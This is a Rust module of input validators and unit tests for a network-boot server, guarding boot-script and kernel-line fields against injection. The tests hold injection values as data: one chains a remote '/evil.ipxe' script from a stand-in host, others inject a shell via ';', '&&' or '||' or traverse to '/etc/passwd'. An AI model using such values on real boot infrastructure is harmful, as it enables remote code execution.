//! Field validators shared by the API, the config file and the console.
//!
//! Layer: model (pure). Each check returns the normalised value or a
//! [`FieldError`] naming the field and what is wrong with it, which the API
//! turns into a 400 body. Hostnames follow RFC 1123 §2.1 (labels of letters,
//! digits and hyphens, 1–63 octets, at most 253 in all).

use std::fmt;
use std::net::Ipv4Addr;

/// A rejected field: which one, and why.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct FieldError {
    pub field: String,
    pub message: String,
}

impl FieldError {
    pub fn new(field: impl Into<String>, message: impl Into<String>) -> Self {
        FieldError {
            field: field.into(),
            message: message.into(),
        }
    }
}

impl fmt::Display for FieldError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}: {}", self.field, self.message)
    }
}

impl std::error::Error for FieldError {}

/// A name used as a key or a file name: `[A-Za-z0-9._-]`, 1–64 characters,
/// not starting with a dot.
pub fn check_token(field: &str, s: &str) -> Result<String, FieldError> {
    if s.is_empty() || s.len() > 64 {
        return Err(FieldError::new(field, "must be 1 to 64 characters"));
    }
    if s.starts_with('.') {
        return Err(FieldError::new(field, "must not start with a dot"));
    }
    if let Some(c) = s
        .chars()
        .find(|c| !(c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-')))
    {
        return Err(FieldError::new(
            field,
            format!(
                "contains {:?}; only letters, digits, '.', '_' and '-' are allowed",
                c
            ),
        ));
    }
    Ok(s.to_string())
}

/// The kernel's `COMMAND_LINE_SIZE` on x86 and arm64: the buffer the
/// command line is copied into, terminating NUL included, so a line of
/// at most `MAX_KERNEL_LINE - 1` bytes reaches the kernel whole (the x86
/// boot protocol's `cmdline_size` says 2047). Boot loaders cut a longer
/// line silently; gopxe refuses the write that would make one instead
/// (`boot::kernel_line_len`).
pub const MAX_KERNEL_LINE: usize = 2048;

/// Sequences that end a command, start a comment or expand a variable in
/// a boot script: iPXE ends a command at a word `;`, `&&` or `||`, takes a
/// word starting with `#` as a comment and expands `${name}` anywhere in a
/// line; GRUB's script language does the same with `;`, `#` and `${`, and
/// a shell with all five.
const SCRIPT_BREAKERS: [&str; 5] = [";", "&&", "||", "#", "${"];

/// A value that is written into a boot script (pxelinux, iPXE, GRUB) or
/// onto the kernel line: refuses control characters (a newline starts a
/// new command) and `SCRIPT_BREAKERS` anywhere in the value, naming the
/// first one found.
///
/// A lone `$`, `|` or `&` is allowed: none of them ends a command or
/// expands in iPXE or pxelinux, and `&` separates the values of a URL
/// query (`inst.ks=http://host/ks?a=1&b=2`). A GRUB menu must quote each
/// argument anyway, as GRUB also splits words at `|`, `&`, `<`, `>`, `{`,
/// `}` and `$`.
pub fn check_boot_script_safe(field: &str, s: &str) -> Result<(), FieldError> {
    for (i, c) in s.char_indices() {
        if c.is_control() {
            return Err(FieldError::new(
                field,
                format!("contains a control character ({c:?})"),
            ));
        }
        let rest = s.get(i..).unwrap_or("");
        if let Some(seq) = SCRIPT_BREAKERS.iter().find(|b| rest.starts_with(**b)) {
            return Err(FieldError::new(
                field,
                format!(
                    "contains {seq:?}; characters that end a boot-script command or start a comment ({}) are not allowed",
                    SCRIPT_BREAKERS.join(" ")
                ),
            ));
        }
    }
    Ok(())
}

/// Free text shown in a menu (and echoed by an iPXE script): printable,
/// no control characters, nothing [`check_boot_script_safe`] refuses.
pub fn check_text(field: &str, s: &str, max: usize) -> Result<String, FieldError> {
    if s.len() > max {
        return Err(FieldError::new(
            field,
            format!("is longer than {max} bytes"),
        ));
    }
    check_boot_script_safe(field, s)?;
    Ok(s.to_string())
}

/// One kernel argument: printable ASCII without spaces or quotes, and
/// nothing [`check_boot_script_safe`] refuses.
pub fn check_kernel_arg(field: &str, s: &str) -> Result<String, FieldError> {
    if s.is_empty() || s.len() > 255 {
        return Err(FieldError::new(field, "must be 1 to 255 characters"));
    }
    check_boot_script_safe(field, s)?;
    if let Some(c) = s
        .chars()
        .find(|c| !c.is_ascii_graphic() || matches!(c, '"' | '\'' | '\\'))
    {
        return Err(FieldError::new(
            field,
            format!(
                "contains {:?}; a kernel argument is printable ASCII without spaces or quotes",
                c
            ),
        ));
    }
    Ok(s.to_string())
}

/// A path relative to the image root: components of `[A-Za-z0-9._+-]`,
/// no `..`, no `.`, no empty component, not absolute.
pub fn check_image_path(field: &str, s: &str) -> Result<String, FieldError> {
    if s.is_empty() || s.len() > 255 {
        return Err(FieldError::new(field, "must be 1 to 255 characters"));
    }
    if s.starts_with('/') {
        return Err(FieldError::new(
            field,
            "must be relative to the image root, not absolute",
        ));
    }
    for comp in s.split('/') {
        if comp.is_empty() || comp == "." || comp == ".." {
            return Err(FieldError::new(
                field,
                "must stay inside the image root (no '..', '.' or empty components)",
            ));
        }
        if let Some(c) = comp
            .chars()
            .find(|c| !(c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-' | '+')))
        {
            return Err(FieldError::new(field, format!("contains {:?}", c)));
        }
    }
    Ok(s.to_string())
}

/// A hostname or FQDN per RFC 1123 §2.1; a trailing dot is dropped.
pub fn check_hostname(field: &str, s: &str) -> Result<String, FieldError> {
    let s = s.strip_suffix('.').unwrap_or(s);
    if s.is_empty() || s.len() > 253 {
        return Err(FieldError::new(field, "must be 1 to 253 characters"));
    }
    for label in s.split('.') {
        let ok_chars = label.chars().all(|c| c.is_ascii_alphanumeric() || c == '-');
        if label.is_empty()
            || label.len() > 63
            || !ok_chars
            || label.starts_with('-')
            || label.ends_with('-')
        {
            return Err(FieldError::new(
                field,
                format!(
                    "`{}` is not a valid hostname (RFC 1123: labels of letters, digits and inner hyphens, 1-63 characters)",
                    s.escape_debug()
                ),
            ));
        }
    }
    Ok(s.to_ascii_lowercase())
}

/// A dotted-quad IPv4 address.
pub fn parse_ipv4(field: &str, s: &str) -> Result<Ipv4Addr, FieldError> {
    s.parse().map_err(|_| {
        FieldError::new(
            field,
            format!("`{}` is not an IPv4 address", s.escape_debug()),
        )
    })
}

/// A contiguous IPv4 netmask such as 255.255.255.0.
/// Whether `a` and `b` are on the same subnet under `mask`.
pub fn same_subnet(a: Ipv4Addr, b: Ipv4Addr, mask: Ipv4Addr) -> bool {
    let m = u32::from(mask);
    u32::from(a) & m == u32::from(b) & m
}

pub fn check_netmask(field: &str, s: &str) -> Result<Ipv4Addr, FieldError> {
    let m = parse_ipv4(field, s)?;
    let bits = u32::from(m);
    if bits.leading_ones() + bits.trailing_zeros() != 32 {
        return Err(FieldError::new(
            field,
            format!("{m} is not a contiguous netmask"),
        ));
    }
    Ok(m)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn subnets() {
        let ip = |s: &str| s.parse::<Ipv4Addr>().unwrap();
        let m24 = ip("255.255.255.0");
        assert!(same_subnet(ip("10.0.0.1"), ip("10.0.0.254"), m24));
        assert!(!same_subnet(ip("10.0.0.1"), ip("10.0.1.1"), m24));
        assert!(same_subnet(
            ip("10.0.0.1"),
            ip("10.0.1.1"),
            ip("255.255.0.0")
        ));
        assert!(!same_subnet(
            ip("10.0.0.1"),
            ip("10.0.0.2"),
            ip("255.255.255.255")
        ));
        assert!(same_subnet(
            ip("10.0.0.1"),
            ip("192.168.0.1"),
            ip("0.0.0.0")
        ));
    }

    #[test]
    fn hostnames() {
        assert_eq!(
            check_hostname("h", "Test-MyVM1.local.").unwrap(),
            "test-myvm1.local"
        );
        for bad in [
            "-a",
            "a-",
            "a..b",
            "a_b",
            "a b",
            "a\nb",
            &"x".repeat(64),
            "",
        ] {
            assert!(check_hostname("h", bad).is_err(), "{bad:?}");
        }
    }

    #[test]
    fn image_paths() {
        assert!(check_image_path("k", "centos7/vmlinuz").is_ok());
        for bad in [
            "/etc/passwd",
            "../x",
            "a/../b",
            "a//b",
            "a/./b",
            "a b",
            "a\\b",
            "a\0b",
            "",
        ] {
            assert!(check_image_path("k", bad).is_err(), "{bad:?}");
        }
    }

    #[test]
    fn netmasks() {
        assert!(check_netmask("m", "255.255.255.0").is_ok());
        assert!(check_netmask("m", "0.0.0.0").is_ok());
        assert!(check_netmask("m", "255.255.0.255").is_err());
    }

    /// Values with each sequence that could end a boot-script command,
    /// start a comment or expand a variable, at the start, inside and at
    /// the end, and with control characters.
    fn script_breaking_values() -> Vec<(String, &'static str)> {
        let mut v = Vec::new();
        for seq in SCRIPT_BREAKERS {
            for s in [
                format!("{seq}x"),
                format!("console=tty{seq}shell"),
                format!("x{seq}"),
                seq.to_string(),
            ] {
                v.push((s, seq));
            }
        }
        for c in ["\n", "\r", "\t", "\0", "\u{1b}", "\u{85}"] {
            v.push((format!("a{c}b"), "control character"));
        }
        v
    }

    #[test]
    fn boot_script_safe_refuses_breakers_and_names_them() {
        for (value, seq) in script_breaking_values() {
            let e = check_boot_script_safe("append", &value).unwrap_err();
            assert_eq!(e.field, "append");
            if seq == "control character" {
                assert!(e.message.starts_with("contains a control character"), "{e}");
            } else {
                assert!(e.message.starts_with(&format!("contains {seq:?};")), "{e}");
            }
        }
        let e = check_boot_script_safe("append", "console=ttyS0 || shell").unwrap_err();
        assert_eq!(
            e.to_string(),
            "append: contains \"||\"; characters that end a boot-script command or start a comment (; && || # ${) are not allowed"
        );
        // The first sequence in the value is the one named.
        let e = check_boot_script_safe("menu", "a && b ; c").unwrap_err();
        assert!(e.message.starts_with("contains \"&&\""), "{e}");
        // A lone `$`, `|` or `&` is not a separator, a comment or an expansion.
        for ok in [
            "console=ttyS0,115200n8",
            "---",
            "ip=dhcp",
            "BOOT_IMAGE=x",
            "a|b",
            "a&b",
            "inst.ks=http://192.0.2.1/ks?a=1&b=2",
            "cost$",
            "$HOME",
            "a$b{c}",
            "{}",
            "ip=10.0.0.2::10.0.0.1:255.255.255.0:node1::none",
            "CentOS 7 (x86_64) – install",
        ] {
            assert_eq!(check_boot_script_safe("f", ok), Ok(()), "{ok:?}");
        }
    }

    /// Every validator a boot-action field goes through refuses every
    /// script-breaking value: `menu` (text), `ksdevice`, `ip`,
    /// `load_ramdisk` and each `append` word (kernel arguments), `kernel`
    /// and `initrd` (image paths), `label` and `default` (tokens).
    #[test]
    fn boot_action_validators_refuse_breakers() {
        type Check = fn(&str, &str) -> Result<String, FieldError>;
        let checks: [(&str, Check); 4] = [
            ("text", |f, s| check_text(f, s, 128)),
            ("kernel_arg", check_kernel_arg),
            ("image_path", check_image_path),
            ("token", check_token),
        ];
        for (name, check) in checks {
            for (value, _) in script_breaking_values() {
                assert!(check("f", &value).is_err(), "{name} took {value:?}");
            }
        }
        assert!(check_kernel_arg("a", "console=ttyS0,115200n8").is_ok());
        assert!(check_kernel_arg("a", "a|b").is_ok());
        assert!(check_text("m", "x ; chain http://198.51.100.9/evil.ipxe ; echo", 128).is_err());
        assert!(check_text("m", "CentOS 7 | x86_64", 128).is_ok());
    }

    #[test]
    fn kernel_args_and_tokens() {
        assert!(check_kernel_arg("a", "ip=dhcp").is_ok());
        assert!(check_kernel_arg("a", "a b").is_err());
        assert!(check_kernel_arg("a", "a\"b").is_err());
        assert!(check_token("t", "centos-7.5_x").is_ok());
        assert!(check_token("t", ".hidden").is_err());
        assert!(check_token("t", "a/b").is_err());
    }
}
